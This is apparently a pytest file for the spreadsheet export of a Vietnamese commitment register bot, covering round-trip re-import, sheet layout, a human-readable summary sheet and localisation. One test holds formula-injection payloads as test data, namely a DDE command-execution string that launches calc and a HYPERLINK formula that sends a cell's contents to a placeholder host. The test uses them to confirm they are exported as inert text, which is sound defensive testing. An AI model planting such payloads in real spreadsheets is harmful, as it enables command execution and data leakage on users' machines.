"""Register export (SPEC "Register files", `qmsbot export`): a summary sheet for people, then the import layout plus
status and history."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from sqlalchemy import func, select

import core.i18n
from storage.db import Database
from storage.events import record
from storage.models import Commitment, Event, Person, Status, Unit
from storage.register_export import export_register
from storage.register_files import COMMITMENT_COLUMNS, UNIT_COLUMNS
from storage.register_import import import_sources
from storage.sample import sample_sources
from texts.import_report import import_report

HANOI = ZoneInfo("Asia/Ho_Chi_Minh")


def sheets(data: bytes) -> dict[str, list[tuple[object, ...]]]:
    workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    try:
        return {name: list(workbook[name].iter_rows(values_only=True)) for name in workbook.sheetnames}
    finally:
        workbook.close()


async def export_bytes(db: Database, lang: str = "vi", now: datetime | None = None) -> bytes:
    buffer = io.BytesIO()
    await export_register(db, buffer, tz=HANOI, lang=lang, now=now)
    return buffer.getvalue()


async def work_on_the_register(db: Database, now: datetime) -> None:
    """What happens between imports: a focal point marks one item done, another in progress with a note."""
    async with db.session() as session:
        person = Person(telegram_id=42, full_name="Nguyễn Văn A", created_at=now)
        session.add(person)
        await session.flush()
        done = await session.scalar(select(Commitment).where(Commitment.ref == "TB1131-1-VPCP"))
        busy = await session.scalar(select(Commitment).where(Commitment.ref == "HOP2013-QT-VPB"))
        assert done is not None and busy is not None
        done.status, done.progress, done.done_at, done.updated_at = Status.DONE, 100, now, now
        busy.status, busy.progress, busy.updated_at = Status.IN_PROGRESS, 30, now
        record(
            session,
            at=now,
            action="done",
            actor_id=person.id,
            commitment_id=done.id,
            unit_id=done.unit_id,
            field="status",
            old_value="open",
            new_value="done",
            note="Đã gửi công văn",
        )


async def test_export_then_import_changes_nothing(db: Database, now: datetime) -> None:
    assert (await import_sources(db, sample_sources(), now=now)).ok
    later = now + timedelta(days=2)
    await work_on_the_register(db, later)
    async with db.session() as session:
        events_before = await session.scalar(select(func.count()).select_from(Event))
        versions_before = dict((await session.execute(select(Commitment.id, Commitment.version))).tuples().all())

    data = await export_bytes(db)
    report = await import_sources(db, [("register.xlsx", data)], now=later + timedelta(hours=1))

    assert report.ok, import_report(report, "en")
    assert not report.changed
    assert (report.units_unchanged, report.commitments_unchanged) == (20, 37)
    async with db.session() as session:
        assert await session.scalar(select(func.count()).select_from(Event)) == events_before
        versions = dict((await session.execute(select(Commitment.id, Commitment.version))).tuples().all())
        assert versions == versions_before
        done = await session.scalar(select(Commitment).where(Commitment.ref == "TB1131-1-VPCP"))
        assert done is not None and done.status is Status.DONE  # import never touches status


async def test_export_layout(db: Database, now: datetime) -> None:
    await import_sources(db, sample_sources(), now=now)
    later = datetime(2026, 11, 22, 3, 5, tzinfo=UTC)  # 10:05 in Hanoi
    await work_on_the_register(db, later)

    book = sheets(await export_bytes(db))

    assert list(book) == ["Tổng hợp", "units", "commitments", "history"]
    units = book["units"]
    assert units[0] == UNIT_COLUMNS
    assert len(units) == 1 + 20
    assert ("VPB", "Văn phòng Bộ", "KCQB") in units
    assert ("BTC", "Bộ Tài chính", "QG") in units and ("KCQB", "Khối cơ quan tham mưu Bộ", "BTTTT") in units

    commitments = book["commitments"]
    header = commitments[0]
    assert header == (*COMMITMENT_COLUMNS, "status", "progress", "last_update", "done_at", "id")
    rows = {row[0]: dict(zip(header, row, strict=True)) for row in commitments[1:]}
    assert len(rows) == 37
    done = rows["TB1131-1-VPCP"]
    assert (done["unit_code"], done["kind"], done["legal_basis"], done["source"]) == (
        "VPCP",
        "legal",
        "118/2009/QĐ-TTg",
        "1131/TB-BKHCN",
    )
    assert done["due"] in (datetime(2011, 5, 30), date(2011, 5, 30))
    assert (done["status"], done["progress"]) == ("đã hoàn thành", 100)
    assert done["last_update"] == done["done_at"] == "22/11/2026 10:05"
    assert rows["HOP2013-QT-VPB"]["status"] == "đang thực hiện"
    assert rows["TB1131-2-BTC"]["status"] == "chưa thực hiện"
    assert rows["TB1131-2-BTC"]["done_at"] in ("", None)
    assert rows["TB1131-6-TCTDC"]["recurrence"] == "FREQ=YEARLY;BYMONTH=12;BYMONTHDAY=15"
    assert all(re.fullmatch(r"\d\d/\d\d/\d{4} \d\d:\d\d", str(r["last_update"])) for r in rows.values())

    history = book["history"]
    assert history[0] == ("commitment_id", "ref", "unit_code", "when", "who", "action", "field", "from", "to", "note")
    assert len(history) == 1 + 20 + 37 + 1
    last = dict(zip(history[0], history[-1], strict=True))
    assert (last["ref"], last["unit_code"], last["when"], last["who"]) == (
        "TB1131-1-VPCP",
        "VPCP",
        "22/11/2026 10:05",
        "Nguyễn Văn A",
    )
    assert (last["action"], last["field"], last["from"], last["to"], last["note"]) == (
        "done",
        "status",
        "open",
        "done",
        "Đã gửi công văn",
    )
    created = dict(zip(history[0], history[1], strict=True))
    assert (created["who"], created["action"]) == ("import", "created")


async def test_export_in_english_to_a_path(db: Database, now: datetime, tmp_path: Path) -> None:
    await import_sources(db, sample_sources(), now=now)
    target = tmp_path / "register.xlsx"

    await export_register(db, target, tz=HANOI, lang="en")

    book = sheets(target.read_bytes())
    statuses = {row[8] for row in book["commitments"][1:]}
    assert statuses == {"not started"}


async def test_empty_register_exports_headers_and_reimports(db: Database, now: datetime) -> None:
    data = await export_bytes(db)
    book = sheets(data)
    assert [len(rows) for rows in book.values()] == [1, 1, 1, 1]
    report = await import_sources(db, [("empty.xlsx", data)], now=now)
    assert report.ok and not report.changed


async def test_edited_export_imports_the_edit(db: Database, now: datetime) -> None:
    """The secretary's round trip: export, change a deadline in Excel, import the workbook back."""
    await import_sources(db, sample_sources(), now=now)
    workbook = openpyxl.load_workbook(io.BytesIO(await export_bytes(db)))
    sheet = workbook["commitments"]
    for row in sheet.iter_rows(min_row=2):
        if row[0].value == "HOP2013-MT-TTB":
            row[4].value = datetime(2014, 1, 15)
    sheet.append(["", "TTB", "Báo cáo kết quả khắc phục", "internal", "20/01/2014"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    report = await import_sources(db, [("edited.xlsx", buffer.getvalue())], now=now)

    assert (report.commitments_created, report.commitments_updated, report.commitments_unchanged) == (1, 1, 36)
    async with db.session() as session:
        moved = await session.scalar(select(Commitment).where(Commitment.ref == "HOP2013-MT-TTB"))
        assert moved is not None and moved.due_date == date(2014, 1, 15)
        added = await session.scalar(select(Commitment).where(Commitment.title == "Báo cáo kết quả khắc phục"))
        ttb = await session.scalar(select(Unit).where(Unit.code_key == "TTB"))
        assert added is not None and ttb is not None and added.unit_id == ttb.id and added.ref is None


FORMULAS = {
    "name": "=cmd|' /C calc'!A0",
    "ref": "=R1",
    "title": '=HYPERLINK("http://example.invalid/?"&A1,"Mở tài liệu")',
    "legal_basis": "#N/A",
    "source": "=1+1",
    "note": "=2*3",
}


async def test_text_that_looks_like_a_formula_is_exported_as_text(db: Database, now: datetime) -> None:
    units = io.StringIO()
    csv.writer(units).writerows([UNIT_COLUMNS, ["VPB", FORMULAS["name"], ""]])
    commitments = io.StringIO()
    csv.writer(commitments).writerows(
        [
            COMMITMENT_COLUMNS,
            [
                FORMULAS["ref"],
                "VPB",
                FORMULAS["title"],
                "internal",
                "15/12/2026",
                FORMULAS["legal_basis"],
                FORMULAS["source"],
                "",
            ],
        ]
    )
    sources = [("units.csv", units.getvalue().encode()), ("commitments.csv", commitments.getvalue().encode())]
    assert (await import_sources(db, sources, now=now)).ok
    async with db.session() as session:
        commitment = await session.scalar(select(Commitment))
        assert commitment is not None
        record(session, at=now, action="note", commitment_id=commitment.id, note=FORMULAS["note"])

    data = await export_bytes(db)

    workbook = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: it keeps each cell's type
    cells = {
        "name": workbook["units"]["B2"],
        "ref": workbook["commitments"]["A2"],
        "title": workbook["commitments"]["C2"],
        "legal_basis": workbook["commitments"]["F2"],
        "source": workbook["commitments"]["G2"],
        "note": workbook["history"].cell(workbook["history"].max_row, 10),  # the last event
    }
    assert {name: (cell.value, cell.data_type) for name, cell in cells.items()} == {
        name: (text, "s") for name, text in FORMULAS.items()
    }
    # No formula anywhere in the file (a cell written as a formula is stored as <f>…</f>).
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    report = await import_sources(db, [("register.xlsx", data)], now=now + timedelta(hours=1))
    assert report.ok and not report.changed, import_report(report, "en")


async def test_export_status_labels_are_plain_text(
    db: Database, now: datetime, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A translation may contain & < > (none does today): a spreadsheet cell shows it as written, not escaped.
    real = core.i18n.translations

    class Ampersand:
        def __init__(self, lang: str) -> None:
            self.catalog = real(lang)

        def gettext(self, msgid: str) -> str:
            return "R&D <" + self.catalog.gettext(msgid)

    await import_sources(db, sample_sources(), now=now)
    monkeypatch.setattr(core.i18n, "translations", Ampersand)
    book = sheets(await export_bytes(db, lang="en"))
    assert {row[8] for row in book["commitments"][1:]} == {"R&D <not started"}


async def test_control_characters_do_not_break_the_export(db: Database, now) -> None:  # type: ignore[no-untyped-def]
    async with db.session() as session:
        unit = Unit(code="VPB", code_key="VPB", name="Văn phòng\x07 Bộ", created_at=now)
        session.add(unit)
        await session.flush()
        record(session, at=now, action="note", unit_id=unit.id, note="chuông\x07 và\x1b thoát")
    buffer = io.BytesIO()
    await export_register(db, buffer, tz=ZoneInfo("Asia/Ho_Chi_Minh"))
    sheet = openpyxl.load_workbook(buffer, read_only=True)["units"]
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names == ["Văn phòng Bộ"]


SUMMARY_HEADER_VI = (
    "Số",
    "Đơn vị",
    "Mã đơn vị",
    "Nhiệm vụ",
    "Loại",
    "Thời hạn",
    "Trạng thái",
    "Tiến độ (%)",
    "Số ngày quá hạn",
    "Căn cứ",
    "Nguồn",
    "Cập nhật lần cuối",
    "Ngày hoàn thành",
)


async def test_the_first_sheet_is_a_summary_for_people(db: Database, now: datetime) -> None:
    """What a secretary sees on opening the file: words, real dates, days overdue, unit names, a filter."""
    await import_sources(db, sample_sources(), now=now)
    async with db.session() as session:
        vpb = await session.scalar(select(Unit).where(Unit.code_key == "VPB"))
        assert vpb is not None
        soon = Commitment(
            unit_id=vpb.id,
            title="Báo cáo đánh giá nội bộ",
            kind="internal",
            due_date=date(2026, 12, 15),
            status=Status.OPEN,
            created_at=now,
            updated_at=now,
        )
        session.add(soon)
    done_at = datetime(2026, 11, 22, 3, 5, tzinfo=UTC)  # 10:05 in Hanoi, long after its deadline
    await work_on_the_register(db, done_at)

    data = await export_bytes(db, now=datetime(2026, 12, 1, 2, 0, tzinfo=UTC))  # 01/12/2026 in Hanoi

    workbook = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: it keeps formats, panes and filter
    assert workbook.sheetnames[0] == "Tổng hợp"
    sheet = workbook["Tổng hợp"]
    header = tuple(cell.value for cell in sheet[1])
    assert header == SUMMARY_HEADER_VI
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:M{1 + 38}"
    rows = {row[2].value + " " + row[3].value[:20]: row for row in sheet.iter_rows(min_row=2)}
    assert len(rows) == 38

    def row_of(code: str, title: str) -> dict[str, openpyxl.cell.Cell]:
        found = [cells for key, cells in rows.items() if key.startswith(f"{code} {title[:20]}")]
        assert len(found) == 1, (code, title)
        return dict(zip(header, found[0], strict=True))

    late = row_of("VPCP", "Chỉ định đơn vị chủ trì")
    assert late["Đơn vị"].value == "Văn phòng Chính phủ"
    assert late["Loại"].value == "Pháp lý"
    assert late["Trạng thái"].value == "hoàn thành quá hạn"  # done, but after 30/05/2011
    assert late["Số ngày quá hạn"].value is None  # done: no longer counting
    assert late["Tiến độ (%)"].value == 100
    assert late["Thời hạn"].is_date and late["Thời hạn"].value == datetime(2011, 5, 30)
    assert late["Thời hạn"].number_format == "DD/MM/YYYY"
    assert late["Ngày hoàn thành"].is_date and late["Ngày hoàn thành"].value == datetime(2026, 11, 22, 10, 5)
    assert late["Căn cứ"].value == "118/2009/QĐ-TTg" and late["Nguồn"].value == "1131/TB-BKHCN"

    busy = row_of("VPB", "Trình ban hành 07 quy trình")
    assert (busy["Trạng thái"].value, busy["Tiến độ (%)"].value) == ("đang thực hiện", 30)
    assert busy["Loại"].value == "Nội bộ"
    assert busy["Số ngày quá hạn"].value == (date(2026, 12, 1) - date(2013, 12, 15)).days

    waiting = row_of("BTC", "Công bố mô hình khung")
    assert waiting["Trạng thái"].value == "chưa thực hiện"
    assert waiting["Số ngày quá hạn"].value == (date(2026, 12, 1) - date(2010, 12, 31)).days
    assert waiting["Ngày hoàn thành"].value is None

    ahead = row_of("VPB", "Báo cáo đánh giá nội bộ")
    assert ahead["Số ngày quá hạn"].value is None  # due in two weeks
    assert ahead["Thời hạn"].value == datetime(2026, 12, 15)
    assert isinstance(ahead["Số"].value, int)


async def test_the_summary_follows_the_exporters_language(db: Database, now: datetime) -> None:
    await import_sources(db, sample_sources(), now=now)
    book = sheets(await export_bytes(db, lang="en", now=now))
    assert list(book) == ["Summary", "units", "commitments", "history"]
    summary = book["Summary"]
    assert summary[0] == (
        "No.",
        "Unit",
        "Unit code",
        "Commitment",
        "Kind",
        "Deadline",
        "Status",
        "Progress (%)",
        "Days overdue",
        "Legal basis",
        "Source",
        "Last update",
        "Done on",
    )
    assert {row[6] for row in summary[1:]} == {"not started"}
    assert {row[4] for row in summary[1:]} <= {"Legal", "Internal"}
    # Re-importing the English export reads only the machine sheets: nothing changes.
    report = await import_sources(db, [("register.xlsx", await export_bytes(db, lang="en", now=now))], now=now)
    assert report.ok and not report.changed, import_report(report, "en")
